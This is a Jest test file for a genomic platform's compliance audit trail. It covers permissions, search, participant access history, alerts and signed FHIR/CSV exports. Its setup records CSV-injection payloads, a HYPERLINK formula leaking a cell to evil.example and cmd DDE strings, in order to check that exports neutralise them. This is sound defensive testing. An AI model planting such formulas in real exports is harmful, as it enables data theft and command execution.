import {
  AUDIT_CHECKPOINT_SIGNER,
  type AuditCheckpointSigner,
  type AuditExportManifest,
} from '@helixgate/audit';
import Ajv from 'ajv';
import { parse } from 'csv-parse/sync';
import { createHash, randomBytes } from 'node:crypto';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { testConfig } from '../support/test-config';
import { auditTestApp, callerWith, type AuditTestApp } from './audit-test-app';

const FHIR_AUDIT_EVENT_SCHEMA = JSON.parse(
  fs.readFileSync(path.join(__dirname, '../fixtures/fhir/audit-event.r4.schema.json'), 'utf8'),
) as object;

/** Paths of empty arrays, objects and strings in a JSON value (FHIR JSON allows none). */
function emptyParts(v: unknown, at = '$'): string[] {
  if (v === '' || (Array.isArray(v) && v.length === 0)) return [at];
  if (Array.isArray(v)) return v.flatMap((x, i) => emptyParts(x, `${at}[${i}]`));
  if (v && typeof v === 'object') {
    const entries = Object.entries(v);
    return entries.length ? entries.flatMap(([k, x]) => emptyParts(x, `${at}.${k}`)) : [at];
  }
  return [];
}

/** What a compliance officer does with the trail: search, participant history, export, alerts. */
describe('audit trail for compliance officers', () => {
  let t: AuditTestApp;
  const tag = randomBytes(4).toString('hex');
  const officer = callerWith(['compliance']);
  const dataset = `ds-${tag}`;
  let started: Date;
  let dir: string;

  beforeAll(async () => {
    // a low baseline so that one busy actor is flagged
    t = await auditTestApp(
      testConfig({ HELIXGATE_AUDIT_ALERT_BASELINE: '5', HELIXGATE_AUDIT_ALERT_WINDOW_SECONDS: '600' }),
    );
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'helixgate-audit-export-'));
    started = new Date(Date.now() - 1000);
    const busy = `busy-${tag}`;
    await Promise.all(
      Array.from({ length: 8 }, (_, i) =>
        t.audit.record({
          actor: busy,
          action: 'graphql:query beacon',
          outcome: i === 7 ? 'deny' : 'allow',
          reason: i === 7 ? 'FORBIDDEN' : null,
          datasetIds: [dataset],
          requestId: `${tag}-q${i}`,
        }),
      ),
    );
    await t.audit.record({
      actor: `researcher-${tag}`,
      institution: 'Other Institute',
      action: 'decrypt',
      outcome: 'allow',
      datasetIds: [dataset],
      detail: {
        purpose: 'Study of hereditary cardiomyopathy',
        individualCount: 3,
        variantCount: 12,
        individualId: 7,
      },
    });
    // values a caller controls, shaped as spreadsheet formulas (CSV injection) and with no roles at all
    await t.audit.record({
      actor: `=HYPERLINK("https://evil.example/?x="&A1,"${tag}")`,
      institution: '+cmd|"/c calc"!A0',
      action: 'graphql:query beacon',
      resource: '@SUM(1+1)*cmd|"/c calc"!A0',
      outcome: 'deny',
      reason: '-2+3',
      datasetIds: [dataset],
      detail: { purpose: '\t=1+1', operationName: '\r=1+1' },
    });
    // a record-level answer's decryption, as the beacon records it: the participants released, by index
    await t.audit.record({
      actor: `grantee-${tag}`,
      action: 'decrypt',
      outcome: 'allow',
      datasetIds: [dataset],
      granularity: 'RECORD',
      detail: { purpose: 'GENERAL_RESEARCH', individualCount: 2, variantCount: 1, individuals: [2, 5] },
    });
  });
  afterAll(async () => {
    await t.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  it('takes audit permissions from policies/roles.yaml: read for compliance and admin, export for compliance only', async () => {
    const can = (roles: Parameters<typeof callerWith>[0], p: 'read' | 'export' | 'verify', subject?: null) =>
      t.audit.assertAuditPermission(callerWith(roles, subject), p);
    await expect(can([], 'read', null)).rejects.toMatchObject({ code: 'UNAUTHENTICATED' });
    await expect(can(['researcher', 'steward'], 'read')).rejects.toMatchObject({ code: 'FORBIDDEN' });
    await expect(can(['admin'], 'read')).resolves.toBeUndefined();
    await expect(can(['admin'], 'verify')).resolves.toBeUndefined();
    await expect(can(['admin'], 'export')).rejects.toMatchObject({
      code: 'FORBIDDEN',
      message: expect.stringContaining('export AuditEvent in policies/roles.yaml'),
    });
    await expect(can(['compliance'], 'export')).resolves.toBeUndefined();
    const out = path.join(dir, 'refused.ndjson');
    await expect(
      t.audit.export(callerWith(['admin']), {
        from: started,
        to: new Date(),
        format: 'ndjson',
        outFile: out,
      }),
    ).rejects.toMatchObject({ code: 'FORBIDDEN' });
    expect(fs.existsSync(out)).toBe(false);
  });

  it('searches by actor, dataset and outcome with keyset pagination, newest first', async () => {
    const seen: number[] = [];
    let after: string | undefined;
    for (let page = 0; page < 10; page++) {
      const p = await t.audit.search(officer, { actor: `busy-${tag}`, datasetId: dataset }, 3, after);
      seen.push(...p.events.map((e) => e.seq));
      if (!p.endCursor) break;
      after = p.endCursor;
    }
    expect(seen).toHaveLength(8);
    expect([...seen].sort((a, b) => b - a)).toEqual(seen);
    const denied = await t.audit.search(officer, { actor: `busy-${tag}`, outcome: 'deny' });
    expect(denied.events).toEqual([expect.objectContaining({ reason: 'FORBIDDEN', requestId: `${tag}-q7` })]);
    const none = await t.audit.search(officer, { actor: `busy-${tag}`, from: new Date(Date.now() + 60_000) });
    expect(none.events).toHaveLength(0);
  });

  it('audits every search under the searching officer', async () => {
    await t.audit.search(officer, { datasetId: dataset }, 1);
    const mine = await t.audit.search(officer, { actor: officer.subject!, action: 'audit.search' }, 50);
    expect(mine.events.length).toBeGreaterThanOrEqual(1);
    expect(mine.events[0].detail).toMatchObject({ filter: expect.objectContaining({ datasetId: dataset }) });
  });

  it("answers a participant's access history: who, when, for what purpose", async () => {
    const history = await t.audit.participantAccessHistory(officer, dataset, '7');
    expect(history).toEqual([
      expect.objectContaining({
        actor: `researcher-${tag}`,
        institution: 'Other Institute',
        purpose: 'Study of hereditary cardiomyopathy',
        individualCount: 3,
      }),
    ]);
    expect(await t.audit.participantAccessHistory(officer, dataset, '8')).toHaveLength(0);
  });

  it('answers only the decryptions that released the participant, and nothing for an unknown one', async () => {
    // The trail names participants by index: anything else is a mistake, said as one (not "nobody").
    await expect(t.audit.participantAccessHistory(officer, dataset, '<unknown>')).rejects.toMatchObject({
      code: 'BAD_REQUEST',
    });
    await expect(t.audit.participantAccessHistory(officer, `no-such-${tag}`, '3')).rejects.toMatchObject({
      code: 'UNKNOWN_DATASET',
    });
    expect(await t.audit.participantAccessHistory(officer, dataset, '3')).toEqual([]);
    expect(await t.audit.participantAccessHistory(officer, dataset, '5')).toEqual([
      expect.objectContaining({ actor: `grantee-${tag}`, individualCount: 2 }),
    ]);
    // without an individual: every decryption of the dataset
    expect((await t.audit.participantAccessHistory(officer, dataset)).map((h) => h.actor).sort()).toEqual(
      [`grantee-${tag}`, `researcher-${tag}`].sort(),
    );
  });

  it('pages the access history newest first, keyset on seq (issue 11)', async () => {
    const all = await t.audit.participantAccessHistory(officer, dataset);
    const one = await t.audit.participantAccessPage(officer, dataset, undefined, { first: 1 });
    expect(one).toEqual({ accesses: [all[0]], hasNextPage: true, endCursor: String(all[0].seq) });
    const two = await t.audit.participantAccessPage(officer, dataset, undefined, {
      first: 1,
      after: one.endCursor,
    });
    expect(two).toEqual({ accesses: [all[1]], hasNextPage: false, endCursor: null });
    await expect(
      t.audit.participantAccessPage(officer, dataset, undefined, { first: 0 }),
    ).rejects.toMatchObject({ code: 'BAD_REQUEST' });
    await expect(
      t.audit.participantAccessPage(officer, dataset, undefined, { after: 'x' }),
    ).rejects.toMatchObject({ code: 'BAD_REQUEST' });
  });

  it('flags an actor above the baseline', async () => {
    const alerts = await t.audit.alerts(officer);
    expect(alerts).toEqual(
      expect.arrayContaining([expect.objectContaining({ actor: `busy-${tag}`, baseline: 5 })]),
    );
    expect(alerts.find((a) => a.actor === `busy-${tag}`)!.count).toBeGreaterThanOrEqual(8);
  });

  it.each(['ndjson', 'csv'] as const)(
    'exports a time range as %s with a signed manifest anchored to a checkpoint',
    async (format) => {
      const out = path.join(dir, `export.${format}`);
      const { manifest, manifestJws, manifestFile } = await t.audit.export(officer, {
        from: started,
        to: new Date(Date.now() + 1000),
        format,
        outFile: out,
      });
      const body = fs.readFileSync(out);
      expect(manifest.sha256).toBe(createHash('sha256').update(body).digest('hex'));
      const signer = t.app.get<AuditCheckpointSigner>(AUDIT_CHECKPOINT_SIGNER);
      const signed = (await signer.verify(manifestJws)) as AuditExportManifest;
      expect(signed.sha256).toBe(manifest.sha256);
      expect(signed.checkpoint!.upToSeq).toBeGreaterThanOrEqual(manifest.lastSeq!);
      await expect(signer.verify(signed.checkpoint!.jws)).resolves.toMatchObject({
        upToSeq: signed.checkpoint!.upToSeq,
      });
      expect(JSON.parse(fs.readFileSync(manifestFile, 'utf8'))).toMatchObject({ jws: manifestJws });
      const lines = body.toString('utf8').trim().split('\n');
      if (format === 'ndjson') {
        const events = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
        expect(events.every((e) => e.resourceType === 'AuditEvent')).toBe(true);
        const decrypt = events.find((e) => JSON.stringify(e).includes(`researcher-${tag}`))!;
        expect(decrypt).toMatchObject({
          outcome: '0',
          purposeOfEvent: [{ text: 'Study of hereditary cardiomyopathy' }],
          agent: [
            expect.objectContaining({
              who: { identifier: { system: 'urn:helixgate:actor', value: `researcher-${tag}` } },
            }),
          ],
          entity: [
            expect.objectContaining({
              what: { identifier: { system: 'urn:helixgate:dataset', value: dataset } },
            }),
          ],
        });
        // Every line is a FHIR R4 AuditEvent: required elements, cardinalities, no empty arrays or strings,
        // a system on every identifier.
        const validate = new Ajv({ allErrors: true }).compile(FHIR_AUDIT_EVENT_SCHEMA);
        for (const e of events) {
          if (!validate(e)) throw new Error(`${JSON.stringify(e)}: ${JSON.stringify(validate.errors)}`);
          expect(emptyParts(e)).toEqual([]);
        }
        const roleless = events.find((e) => JSON.stringify(e).includes(`evil.example`))!;
        expect((roleless.agent as Record<string, unknown>[])[0]).not.toHaveProperty('role');
      } else {
        expect(lines[0]).toBe(
          'seq,at,actor,roles,institution,action,resource,dataset_ids,granularity,outcome,reason,request_id,detail,prev_hash,hash',
        );
        expect(lines.some((l) => l.includes(`busy-${tag}`) && l.includes('FORBIDDEN'))).toBe(true);
        // No cell of the file starts like a formula: = + - @ tab CR are prefixed with an apostrophe.
        const records = parse<Record<string, string>>(body, { columns: true });
        expect(records).toHaveLength(manifest.rows);
        for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
        const hostile = records.find((r) => r.actor.includes('evil.example'))!;
        expect(hostile).toMatchObject({
          actor: `'=HYPERLINK("https://evil.example/?x="&A1,"${tag}")`,
          institution: `'+cmd|"/c calc"!A0`,
          resource: `'@SUM(1+1)*cmd|"/c calc"!A0`,
          reason: `'-2+3`,
        });
        // the JSON detail cell keeps its content (it starts with "{", not a formula)
        expect(JSON.parse(hostile.detail)).toEqual({ purpose: '\t=1+1', operationName: '\r=1+1' });
      }
      expect(manifest.rows).toBe(lines.length - (format === 'csv' ? 1 : 0));
      const exportEvent = await t.audit.search(
        officer,
        { actor: officer.subject!, action: 'audit.export' },
        1,
      );
      expect(exportEvent.events[0].detail).toMatchObject({ format, sha256: manifest.sha256 });
    },
  );

  it('writes an event inside the caller transaction: it rolls back with it, and the chain stays whole', async () => {
    const qr = t.ds.createQueryRunner();
    await qr.connect();
    await qr.startTransaction();
    const inTx = await t.audit.record(
      { actor: `steward-${tag}`, action: 'access.approve', outcome: 'allow', datasetIds: [dataset] },
      qr.manager,
    );
    await qr.rollbackTransaction();
    await qr.release();
    const gone = await t.ds.query<{ n: number }[]>(
      'SELECT count(*)::int AS n FROM audit_event WHERE actor = $1',
      [`steward-${tag}`],
    );
    expect(gone[0].n).toBe(0);
    const after = await t.audit.record({
      actor: `steward-${tag}`,
      action: 'access.approve',
      outcome: 'allow',
    });
    expect(after.seq).toBeGreaterThanOrEqual(inTx.seq);
    const report = await t.audit.verify(officer, { from: inTx.seq - 1 });
    expect(report).toMatchObject({ ok: true });
  });
});
